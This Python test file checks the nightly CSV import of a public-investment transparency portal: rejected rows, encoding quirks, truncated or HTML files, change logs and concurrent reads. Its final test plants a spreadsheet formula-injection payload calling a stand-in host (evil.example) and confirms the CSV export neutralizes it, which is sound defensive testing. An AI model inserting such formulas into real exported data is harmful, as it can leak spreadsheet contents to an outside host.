"""The nightly import as an operator and a journalist rely on it."""

from __future__ import annotations

import csv
import threading

from sqlalchemy import func, select

from portal.demo.names import DETALLE_HEADER
from portal.importer.models import ImportRun
from portal.investments.models import ChangeLogEntry, Investment, YearlyExecution
from tests.conftest import import_sources
from tests.importer.factories import detalle_row, many_rows, write_detalle, write_seguimiento


def _investments(app) -> dict[str, Investment]:
    with app.app_context():
        from portal.db import get_session

        session = get_session()
        investments = {inv.cui: inv for inv in session.scalars(select(Investment))}
        session.expunge_all()  # keep the loaded values readable after the context ends
        return investments


def test_good_rows_import_and_a_bad_row_is_reported_with_its_line(app, tmp_path):
    rows = many_rows(3)
    rows[1]["COSTO_ACTUALIZADO"] = "mucho dinero"
    path = write_detalle(tmp_path / "DETALLE_INVERSIONES.csv", rows)

    [result] = import_sources(app, [("mef-inversiones", path)])

    assert result.status == "imported"
    assert (result.rows_read, result.rows_imported, result.rows_rejected) == (3, 2, 1)
    assert set(_investments(app)) == {"2300000", "2300002"}
    report = app.config["PORTAL_INSTANCE_DIR"] + "/reports/" + result.rejects_file
    with open(report, encoding="utf-8-sig") as stream:
        [rejected] = list(csv.DictReader(stream))
    assert rejected["linea"] == "3"
    assert "COSTO_ACTUALIZADO" in rejected["motivo"] and "mucho dinero" in rejected["motivo"]


def test_published_quirks_are_read_as_values(app, tmp_path):
    row = detalle_row(
        "2300010",
        name="MEJORAMIENTO DEL\r\nSERVICIO   DE AGUA",
        UBIGEO="60401",
        AVANCE_FISICO="117.25",
        LATITUD="-78.65",
        LONGITUD="-6.56",
        CODIGO_SNIP="206887.0",
    )
    path = write_detalle(tmp_path / "d.csv", [row], encoding="cp1252", delimiter=";")

    [result] = import_sources(app, [("mef-inversiones", path)])

    inv = _investments(app)["2300010"]
    assert result.status == "imported"
    assert inv.name == "MEJORAMIENTO DEL SERVICIO DE AGUA"
    assert inv.ubigeo == "060401" and inv.snip == "206887"
    assert str(inv.physical_progress) == "117.25"
    assert (inv.latitude, inv.longitude, inv.coords_status) == (-6.56, -78.65, "swapped")
    assert str(inv.updated_cost) == "1200000.50"
    assert str(inv.devengado_accumulated) == "400000.25"
    assert inv.first_devengado_on.isoformat() == "2022-01-01"


def test_drifted_header_names_are_matched_by_name_not_position(app, tmp_path):
    header = [
        h.replace("ANIO", "AÑO")
        for h in reversed(DETALLE_HEADER)
    ]
    row = {h: v for h, v in detalle_row("2300020").items()}
    row["PIM_AÑO_ACTUAL"] = row.pop("PIM_ANIO_ACTUAL")
    path = write_detalle(tmp_path / "d.csv", [row], header=header)

    [result] = import_sources(app, [("mef-inversiones", path)])

    assert result.status == "imported"
    assert str(_investments(app)["2300020"].pim_current) == "400000.00"


def test_region_filter_keeps_only_the_region(app, tmp_path):
    rows = [detalle_row("2300030"), detalle_row("2300031", UBIGEO="150101", DEPARTAMENTO="LIMA")]
    path = write_detalle(tmp_path / "d.csv", rows)

    [result] = import_sources(app, [("mef-inversiones", path)])

    assert (result.rows_read, result.rows_imported) == (2, 1)
    assert set(_investments(app)) == {"2300030"}


def test_a_row_without_ubigeo_is_kept_by_its_department_name(app, tmp_path):
    rows = [
        detalle_row("2300040", UBIGEO=""),
        detalle_row("2300041", UBIGEO="", DEPARTAMENTO="LIMA"),
    ]

    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "d.csv", rows))])

    assert set(_investments(app)) == {"2300040"}


def test_whole_country_setting_keeps_every_row(app, tmp_path):
    app.config["PORTAL_REGION"] = "all"
    rows = [detalle_row("2300030"), detalle_row("2300031", UBIGEO="150101", DEPARTAMENTO="LIMA")]
    path = write_detalle(tmp_path / "d.csv", rows)

    import_sources(app, [("mef-inversiones", path)])

    assert set(_investments(app)) == {"2300030", "2300031"}


def test_same_file_again_is_unchanged_and_changes_nothing(app, tmp_path):
    path = write_detalle(tmp_path / "d.csv", many_rows(5))
    import_sources(app, [("mef-inversiones", path)])
    before = {cui: inv.changed_at for cui, inv in _investments(app).items()}

    [again] = import_sources(app, [("mef-inversiones", path)])

    assert (again.status, again.changes) == ("unchanged", 0)
    assert {cui: inv.changed_at for cui, inv in _investments(app).items()} == before


def test_changed_file_logs_one_entry_per_changed_field(app, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(3)))])
    rows = many_rows(3)
    rows[0].update(COSTO_ACTUALIZADO="1500000.0", AVANCE_FISICO="40.0")
    rows[2]["NOMBRE_INVERSION"] = "NUEVO NOMBRE DE LA OBRA"

    [result] = import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "b.csv", rows))])

    with app.app_context():
        from portal.db import get_session

        log = (
            get_session()
            .execute(
                select(
                    ChangeLogEntry.cui,
                    ChangeLogEntry.field,
                    ChangeLogEntry.old_value,
                    ChangeLogEntry.new_value,
                )
            )
            .all()
        )
    assert sorted(log) == [
        ("2300000", "physical_progress", "35.50", "40.00"),
        ("2300000", "updated_cost", "1200000.50", "1500000.00"),
        ("2300002", "name", "OBRA DE PRUEBA 2300002", "NUEVO NOMBRE DE LA OBRA"),
    ]
    assert result.changes == 3
    assert _investments(app)["2300002"].name == "NUEVO NOMBRE DE LA OBRA"


def test_investment_gone_from_the_file_is_removed_and_logged(app, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(4)))])

    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "b.csv", many_rows(3)))])

    assert "2300003" not in _investments(app)
    with app.app_context():
        from portal.db import get_session

        fields = get_session().scalars(
            select(ChangeLogEntry.field).where(ChangeLogEntry.cui == "2300003")
        )
        assert list(fields) == ["_removed"]


def test_html_error_page_is_rejected_and_last_good_data_stays(app, client, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(4)))])
    before = {cui: inv.updated_cost for cui, inv in _investments(app).items()}
    broken = tmp_path / "DETALLE_INVERSIONES.csv"
    broken.write_text("<!DOCTYPE html><html><body>503 Service Unavailable</body></html>")

    [result] = import_sources(app, [("mef-inversiones", broken)])

    assert result.status == "rejected" and "HTML" in result.error
    assert {cui: inv.updated_cost for cui, inv in _investments(app).items()} == before
    status_page = client.get("/estado").get_data(as_text=True)
    assert "datos desactualizados" in status_page and "HTML" in status_page
    assert "Algunos datos no están al día" in client.get("/").get_data(as_text=True)


def test_missing_required_columns_reject_the_file(app, tmp_path):
    header = [h for h in DETALLE_HEADER if h != "UBIGEO"]
    path = write_detalle(tmp_path / "d.csv", many_rows(3), header=header)

    [result] = import_sources(app, [("mef-inversiones", path)])

    assert result.status == "rejected" and "UBIGEO" in result.error
    assert _investments(app) == {}


def test_far_fewer_rows_than_last_good_import_is_refused_as_truncated(app, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(10)))])

    [result] = import_sources(
        app, [("mef-inversiones", write_detalle(tmp_path / "b.csv", many_rows(3)))]
    )

    assert result.status == "rejected" and "truncated" in result.error
    assert len(_investments(app)) == 10


def test_empty_file_is_rejected(app, tmp_path):
    empty = tmp_path / "d.csv"
    empty.write_bytes(b"")

    [result] = import_sources(app, [("mef-inversiones", empty)])

    assert result.status == "rejected" and "empty" in result.error


def test_dry_run_validates_and_changes_nothing(app, tmp_path):
    path = write_detalle(tmp_path / "d.csv", many_rows(3))

    [result] = import_sources(app, [("mef-inversiones", path)], dry_run=True)

    assert (result.status, result.rows_imported, result.changes) == ("imported", 3, 3)
    assert _investments(app) == {}
    with app.app_context():
        from portal.db import get_session

        assert get_session().scalar(select(func.count()).select_from(ImportRun)) == 0


def test_closed_investment_wins_over_its_active_row(app, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(2)))])
    closed = write_detalle(
        tmp_path / "CIERRE_INVERSIONES.csv",
        [detalle_row("2300001", ESTADO="CERRADO", FEC_CIERRE="2026-05-01 00:00:00")],
    )
    import_sources(app, [("mef-cierre", closed)])

    import_sources(
        app,
        [
            (
                "mef-inversiones",
                write_detalle(tmp_path / "b.csv", many_rows(2) + many_rows(1, 2300050)),
            )
        ],
    )

    inv = _investments(app)["2300001"]
    assert (inv.source, inv.status, inv.phase) == ("mef-cierre", "finalizada", "cierre")


def test_a_seguimiento_file_replaces_only_its_own_year(app, tmp_path):
    def year_rows(year, pim):
        return [
            {
                "ANO_EJE": str(year),
                "SEC_EJEC": "878",
                "PRODUCTO_PROYECTO": "2300000",
                "DEPARTAMENTO_EJECUTORA_NOMBRE": "CAJAMARCA",
                "MONTO_PIM": pim,
                "MONTO_DEVENGADO": "10.0",
            }
        ]

    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "d.csv", many_rows(1)))])
    import_sources(
        app,
        [
            (
                "mef-seguimiento",
                write_seguimiento(tmp_path / "2024-Seguimiento-PI.csv", year_rows(2024, "100.0")),
            ),
            (
                "mef-seguimiento",
                write_seguimiento(tmp_path / "2025-Seguimiento-PI.csv", year_rows(2025, "200.0")),
            ),
        ],
    )

    import_sources(
        app,
        [("mef-seguimiento", write_seguimiento(tmp_path / "2025b.csv", year_rows(2025, "250.0")))],
    )

    with app.app_context():
        from portal.db import get_session

        pims = dict(get_session().execute(select(YearlyExecution.year, YearlyExecution.pim)).all())
    assert {year: str(pim) for year, pim in pims.items()} == {2024: "100.00", 2025: "250.00"}


def test_sources_can_be_fetched_over_http(app, file_server, tmp_path):
    root, base_url = file_server
    write_detalle(root / "DETALLE_INVERSIONES.csv", many_rows(2))

    [result] = import_sources(app, [("mef-inversiones", f"{base_url}/DETALLE_INVERSIONES.csv")])

    assert result.status == "imported" and result.rows_imported == 2


def test_a_download_that_fails_is_rejected_with_the_reason(app, file_server):
    _, base_url = file_server
    app.config["PORTAL_DOWNLOAD_RETRIES"] = 1

    [result] = import_sources(app, [("mef-inversiones", f"{base_url}/missing.csv")])

    assert result.status == "rejected" and "404" in result.error


def test_pages_keep_answering_while_an_import_runs(app, client, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(300)))])
    bigger = write_detalle(tmp_path / "b.csv", many_rows(300) + many_rows(3000, 2400000))
    worker = threading.Thread(target=import_sources, args=(app, [("mef-inversiones", bigger)]))
    counts = set()

    worker.start()
    while worker.is_alive():
        response = client.get("/")
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        counts.add(html.split('data-figure="investments">')[1].split("<")[0])
    worker.join()

    assert counts <= {"300", "3,300"}, counts
    assert "3,300" in client.get("/").get_data(as_text=True)


def test_a_file_cut_off_mid_row_is_rejected_and_nothing_is_removed(app, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(10)))])
    whole = write_detalle(tmp_path / "b.csv", many_rows(8)).read_bytes()
    cut = tmp_path / "cut.csv"
    cut.write_bytes(whole[: len(whole) - 400])  # the download stopped inside the last row

    [result] = import_sources(app, [("mef-inversiones", cut)])

    assert result.status == "rejected" and "cut off" in result.error
    assert len(_investments(app)) == 10


def test_an_older_file_coming_back_is_imported_again(app, tmp_path):
    original = write_detalle(tmp_path / "a.csv", many_rows(3))
    changed_rows = many_rows(3)
    changed_rows[0]["COSTO_ACTUALIZADO"] = "99999999.99"
    import_sources(app, [("mef-inversiones", original)])
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "b.csv", changed_rows))])

    [result] = import_sources(app, [("mef-inversiones", original)])

    assert result.status == "imported"
    assert str(_investments(app)["2300000"].updated_cost) == "1200000.50"


def test_a_rejected_row_keeps_the_previous_version_of_its_investment(app, tmp_path):
    import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "a.csv", many_rows(3)))])
    rows = many_rows(3)
    rows[1]["UBIGEO"] = "garbage"

    [result] = import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "b.csv", rows))])

    assert result.rows_rejected == 1
    assert set(_investments(app)) == {"2300000", "2300001", "2300002"}


def test_oversized_text_is_cut_to_fit_its_column(app, tmp_path):
    rows = [detalle_row("2300060", name="OBRA " * 300_000, ENTIDAD="MUNICIPALIDAD " * 100)]

    [result] = import_sources(app, [("mef-inversiones", write_detalle(tmp_path / "d.csv", rows))])

    inv = _investments(app)["2300060"]
    assert result.status == "imported"
    assert len(inv.name) == 4000 and inv.name.endswith("…")
    assert len(inv.entity) == 300


def test_a_formula_in_a_published_name_stays_text_in_the_csv_download(app, client, tmp_path):
    name = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    import_sources(
        app,
        [
            (
                "mef-inversiones",
                write_detalle(tmp_path / "d.csv", [detalle_row("2300070", name=name)]),
            )
        ],
    )

    exported = client.get("/buscar.csv").get_data(as_text=True)

    assert "'=HYPERLINK" in exported
    assert ',"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported
